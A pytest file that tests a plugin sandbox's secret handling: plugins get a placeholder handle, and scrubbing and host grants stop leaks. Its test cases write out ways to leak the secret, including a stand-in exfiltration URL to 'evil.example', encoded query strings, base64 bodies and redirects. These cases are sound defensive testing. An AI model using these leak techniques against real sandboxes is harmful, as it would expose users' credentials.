"""Secrets that a plugin may send but not see, and the ways it might try to see them."""

from __future__ import annotations

import asyncio
import base64
import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lumosai_sandbox.capabilities import scrub
from lumosai_sandbox.capabilities.scrub import Flow, Scrubber
from lumosai_sdk.errors import InputError, NotFoundError, PermissionDeniedError
from lumosai_sdk.permissions import Grant, Permissions, SecretRule
from lumosai_sdk.secrets import Secret
from lumosai_sdk.wireerrors import FarError, encode_error

Make = Callable[..., Any]
VALUE = 's3cr3t/va+lue"of mine'
HANDLE = "{{secret:api_key}}"


@pytest.fixture(autouse=True)
def value(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LUMOS_TEST_SECRET", VALUE)


@pytest.fixture
def holder(plugin: Make) -> Make:
    """A plugin with one secret, bound to hosts, and the http rights of a test."""

    def make(*http: str, to: str = "127.0.0.1", **more: Any) -> Any:
        rights = {"http": list(http), "secrets": [f"api_key to {to}"]}
        return plugin(rights, settings={"api_key": Secret("env:LUMOS_TEST_SECRET"), "region": "eu"}, **more)

    return make


async def test_the_plugin_gets_a_handle_and_the_host_the_secret(holder: Make, web: Any) -> None:
    p = holder(f"* {web.url}/*")
    handle = await p.ask("secrets.get", "api_key")
    await p.fetch(web.url, headers={"Authorization": f"Bearer {handle}"})
    assert handle == HANDLE
    assert web.seen[0].headers["authorization"] == f"Bearer {VALUE}"


async def test_settings_are_told_without_secrets(plugin: Make) -> None:
    secret = Secret("env:LUMOS_TEST_SECRET")
    p = plugin(settings={"region": "eu", "key": secret, "in": {"key": secret, "x": 1}, "list": [secret, 2]})
    assert await p.ask("config.get") == {"region": "eu", "in": {"x": 1}, "list": [2]}


@pytest.mark.parametrize("rule", ["api_key", "other to 127.0.0.1"])
async def test_a_secret_without_a_host_of_its_own_is_not_given(plugin: Make, rule: str) -> None:
    p = plugin({"secrets": [rule]}, settings={"api_key": Secret("env:LUMOS_TEST_SECRET")})
    with pytest.raises(PermissionDeniedError) as caught:
        await p.ask("secrets.get", "api_key")
    assert "secrets = [" in str(caught.value.hint)


@pytest.mark.parametrize("name", ["region", "none", "api_key.x"])
async def test_what_is_no_secret_has_no_handle(plugin: Make, name: str) -> None:
    settings = {"api_key": Secret("env:LUMOS_TEST_SECRET"), "region": "eu"}
    with pytest.raises(NotFoundError):
        await plugin({"secrets": ["* to a.org"]}, settings=settings).ask("secrets.get", name)


@pytest.mark.parametrize(
    "request_",
    [
        {"url": "{url}/?k=" + HANDLE},
        {"url": "{url}/?k=" + quote(HANDLE)},
        {"url": "{url}/?k=" + quote(quote(HANDLE))},
        {"url": "http://" + HANDLE + ".evil.example/"},
        {"url": "{url}", "method": "POST", "body": f"k={HANDLE}"},
        {"url": "{url}", "method": "POST", "body_base64": base64.b64encode(HANDLE.encode()).decode()},
        {"url": "{url}", "headers": {HANDLE: "x"}},
        {"url": "{url}", "headers": {"X-A": "{{secret:api_key"}},
        {"url": "{url}", "headers": {"X-A": "{{secret:{{secret:api_key}}}}"}},
    ],
)
async def test_a_handle_anywhere_else_is_refused(holder: Make, web: Any, request_: dict[str, Any]) -> None:
    request_ = {**request_, "url": request_["url"].replace("{url}", web.url)}
    with pytest.raises((InputError, PermissionDeniedError)):
        await holder(f"* {web.url}/*", "* http://*:*/*").ask("http.fetch", json.dumps(request_))
    assert web.seen == []


async def test_a_secret_goes_to_no_other_host(holder: Make, web: Any) -> None:
    p = holder(f"* {web.url}/*", to="api.example.org")
    with pytest.raises(PermissionDeniedError) as caught:
        await p.fetch(web.url, headers={"X-Key": HANDLE})
    assert caught.value.hint == 'in lumos.toml, under [plugins.p.grant]: secrets = ["api_key to 127.0.0.1"]'
    assert web.seen == []


async def test_a_secret_goes_to_no_other_port_where_one_is_named(holder: Make, web: Any, other: Any) -> None:
    p = holder(f"* {web.url}/*", f"* {other.url}/*", to=f"127.0.0.1:{web.port}")
    await p.fetch(web.url, headers={"X-Key": HANDLE})
    with pytest.raises(PermissionDeniedError):
        await p.fetch(other.url, headers={"X-Key": HANDLE})
    assert other.seen == []


async def test_a_secret_is_not_sent_in_the_open(holder: Make) -> None:
    async def resolves(_: str) -> list[str]:
        raise AssertionError("it was about to connect")

    p = holder("GET http://api.example.org/*", to="api.example.org", lookup=resolves)
    with pytest.raises(PermissionDeniedError, match="encrypted"):
        await p.fetch("http://api.example.org/", headers={"X-Key": HANDLE})


async def test_a_secret_does_not_follow_a_redirect_elsewhere(holder: Make, web: Any, other: Any) -> None:
    web.answers["/a"] = web.redirect(f"{other.url}/b")
    p = holder(f"* {web.url}/*", f"* {other.url}/*", to=f"127.0.0.1:{web.port}")
    await p.fetch(f"{web.url}/a", headers={"X-Key": HANDLE, "User-Agent": HANDLE, "Accept": HANDLE})
    assert VALUE in web.seen[0].headers["user-agent"]
    assert VALUE not in str(other.seen[0].headers)
    assert HANDLE not in str(other.seen[0].headers)


async def test_a_redirect_that_carries_the_secret_is_not_followed(holder: Make, web: Any, other: Any) -> None:
    web.answers["/a"] = web.redirect(f"{other.url}/?k={quote(VALUE, safe='')}")
    with pytest.raises(PermissionDeniedError) as caught:
        await holder(f"* {web.url}/*", f"* {other.url}/*").fetch(f"{web.url}/a", headers={"X-Key": HANDLE})
    assert other.seen == []
    assert VALUE not in str(caught.value)


ECHOES = [
    VALUE.encode(),
    base64.b64encode(VALUE.encode()),
    base64.urlsafe_b64encode(VALUE.encode()),
    base64.b64encode(f"Bearer {VALUE}.".encode()),
    base64.b64encode(f"u:{VALUE}".encode()),
    quote(VALUE, safe="").encode(),
    "".join(f"%{b:02x}" for b in VALUE.encode()).encode(),
    VALUE.encode().hex().encode(),
    VALUE.encode().hex().upper().encode(),
    json.dumps({"key": VALUE}).encode(),
    json.dumps({"key": VALUE}).replace("/", "\\/").encode(),
    VALUE[::-1].encode(),
    VALUE.replace('"', "&quot;").encode(),
    VALUE.encode("utf-16-le"),
]
CORES = ["s3cr3t", "va+lue", "mine", "czNjcjN0", "733363723374", "%73%33", "enim"]


@pytest.mark.parametrize("echo", ECHOES)
@pytest.mark.parametrize("how", ["http.fetch", "http.open"])
async def test_an_echo_is_scrubbed_however_it_is_written(holder: Make, web: Any, echo: bytes, how: str) -> None:
    async def piecemeal(_: Any, writer: asyncio.StreamWriter) -> None:
        line = echo.decode("latin-1").replace("\0", "")
        writer.write(f"HTTP/1.1 200 OK\r\nX-Echo: {line}\r\nConnection: close\r\n\r\n[".encode("latin-1"))
        for at in range(0, len(echo), 3):
            writer.write(echo[at : at + 3])
            await writer.drain()
            await asyncio.sleep(0)
        writer.write(b"]")

    web.answers["/"] = piecemeal
    p = holder(f"* {web.url}/*")
    answer = await p.ask(how, json.dumps({"url": web.url, "headers": {"X-Key": HANDLE}}))
    text = answer.get("body", "")
    while how == "http.open" and (piece := await p.ask("http.read", answer["handle"])) is not None:
        text += piece
    assert text.startswith("[")
    assert text.endswith("]")
    assert "[secret]" in text
    assert "[secret]" in answer["headers"]["x-echo"]
    told = json.dumps(answer) + text
    assert [c for c in CORES if c in told] == []


async def test_what_was_sent_before_is_scrubbed_later_too(holder: Make, web: Any) -> None:
    web.answers["/stored"] = web.ok(VALUE.encode())
    p = holder(f"* {web.url}/*")
    assert (await p.fetch(f"{web.url}/stored"))["body"] == "[secret]"


async def test_a_secret_is_not_fetched_byte_by_byte(holder: Make, web: Any) -> None:
    with pytest.raises(InputError):
        await holder(f"* {web.url}/*").fetch(web.url, headers={"Range": "bytes=0-0"})


async def test_no_error_holds_the_secret(holder: Make, web: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    p = holder(f"* {web.url}/*")
    for answer in (b"nonsense " + VALUE.encode(), web.redirect(f"http://{VALUE}/"), web.redirect(f"/{VALUE}" * 3000)):
        web.answers["/"] = answer
        with pytest.raises((FarError, PermissionDeniedError)) as caught:
            await p.fetch(web.url, headers={"X-Key": HANDLE})
        assert VALUE not in json.dumps(encode_error(caught.value))
    monkeypatch.setenv("LUMOS_TEST_SECRET", "two\nlines-of-it")
    with pytest.raises(FarError) as broken:
        await p.fetch(web.url, headers={"X-Key": HANDLE})
    assert "lines-of-it" not in str(broken.value)
    monkeypatch.delenv("LUMOS_TEST_SECRET")
    with pytest.raises(FarError):
        await p.fetch(web.url, headers={"X-Key": HANDLE})


async def test_a_secret_that_looks_like_a_handle_is_not_read_again(
    plugin: Make, web: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LUMOS_TEST_A", "{{secret:b}}")
    settings = {"a": Secret("env:LUMOS_TEST_A"), "b": Secret("env:LUMOS_TEST_SECRET")}
    rights = {"http": [f"* {web.url}/*"], "secrets": ["a to 127.0.0.1"]}
    await plugin(rights, settings=settings).fetch(web.url, headers={"X-Key": "{{secret:a}}"})
    assert web.seen[0].headers["x-key"] == "{{secret:b}}"


# --- the scrubber, in pieces


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([*ECHOES, b"s", b"s3c", b"plain text ", b"\x00"]), max_size=6), st.data())
def test_pieces_are_scrubbed_as_the_whole_is(parts: list[bytes], data: st.DataObject) -> None:
    whole = b"".join(parts)
    scrubber = Scrubber((VALUE,))
    cuts = sorted(data.draw(st.lists(st.integers(0, len(whole)), max_size=8)))
    flow, out = Flow(scrubber), b""
    for start, end in zip([0, *cuts], [*cuts, len(whole)], strict=True):
        out += flow.feed(whole[start:end])
    out += flow.end()
    assert [f for f in scrubber.forms if f in out] == []
    assert out.replace(scrub.INSTEAD, b"") == scrubber.clean(whole).replace(scrub.INSTEAD, b"")


def test_what_cannot_be_a_secret_is_not_held_back() -> None:
    flow = Flow(Scrubber((VALUE,)))
    assert flow.feed(b'data: {"text": "hello"}\n\n') == b'data: {"text": "hello"}\n\n'


# --- the grammar


@pytest.mark.parametrize("text", ["a to ", " to x", "a to http://x/", "a to x/y", "a to u@x", "a to x:y", "a to x y"])
def test_a_secrets_rule_that_is_none_is_refused(text: str) -> None:
    with pytest.raises(InputError):
        Permissions.from_json({"secrets": [text]})


@pytest.mark.parametrize(
    ("asked", "granted", "host", "port", "allowed"),
    [
        ("k to a.org", "k to a.org", "a.org", 443, True),
        ("k to a.org", "k", "a.org", 443, True),
        ("k", "k to a.org", "a.org", 443, True),
        ("k to *.a.org", "k to x.a.org", "x.a.org", 443, True),
        ("* to x.a.org", "k to *.a.org", "x.a.org", 443, False),
        ("k to *.a.org", "k to x.a.org", "y.a.org", 443, False),
        ("k to a.org", "k to b.org", "a.org", 443, False),
        ("k to *", "k to a.org", "b.org", 443, False),
        ("k to a.org", "k to a.org:8443", "a.org", 8443, True),
        ("k to a.org", "k to a.org:8443", "a.org", 443, False),
        ("k to a.org", "j to a.org", "a.org", 443, False),
        ("k to [::1]:80", "k to [::1]", "::1", 80, True),
    ],
)
def test_a_secret_goes_where_both_sides_let_it(asked: str, granted: str, host: str, port: int, allowed: bool) -> None:
    grant = Grant(Permissions.from_json({"secrets": [asked]}), Permissions.from_json({"secrets": [granted]}))
    assert any(r.allows("k", host, port) for r in grant.effective.secret_rules()) == allowed


def test_a_bound_secret_is_no_right_to_the_secret_itself() -> None:
    rights = Permissions.from_json({"secrets": ["k to a.org", "j"]})
    assert not rights.allows_name("secrets", "k")
    assert rights.allows_name("secrets", "j")
    assert not SecretRule.parse("j").allows("j", "a.org", 443)
